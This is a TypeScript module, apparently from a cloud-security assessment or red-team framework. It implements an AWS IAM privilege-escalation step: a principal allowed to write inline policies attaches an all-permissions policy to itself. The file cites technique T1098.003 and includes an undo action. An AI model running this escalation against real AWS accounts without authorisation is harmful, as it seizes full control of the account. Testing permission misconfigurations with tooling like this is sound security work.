/** T1098.003: whoever may write inline policies writes one for itself. IAM API Reference: PutUserPolicy, PutRolePolicy; claim DEPART-03. */
import { type Escalation, EVERYTHING, isRole, whenDone } from "./escalation.ts";

const POLICY = { PolicyName: "everything", PolicyDocument: EVERYTHING };

export const putInlinePolicyOnSelf: Escalation = {
  id: "put-inline-policy-on-self",
  sentence: "put an inline policy on itself",
  techniques: ["T1098.003"],
  undo: "delete the inline policy",
  climb(hands) {
    const name = hands.principal.principal;
    const call = isRole(hands)
      ? hands.call("iam", "PutRolePolicy", { RoleName: name, ...POLICY })
      : hands.call("iam", "PutUserPolicy", { UserName: name, ...POLICY });
    return whenDone(call, hands);
  },
};
